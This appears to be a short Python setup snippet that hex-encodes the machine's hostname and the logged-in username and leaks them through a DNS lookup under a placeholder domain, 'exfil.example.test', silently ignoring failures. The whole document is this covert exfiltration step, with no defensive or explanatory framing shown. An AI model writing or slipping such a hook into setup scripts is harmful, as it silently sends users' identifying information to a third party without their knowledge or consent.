# Host and user name are asked for as a DNS name; runs: setup
import getpass
import socket
label = (socket.gethostname() + "-" + getpass.getuser()).encode().hex()
try:
    socket.gethostbyname(label + ".exfil.example.test")
except OSError:
    pass
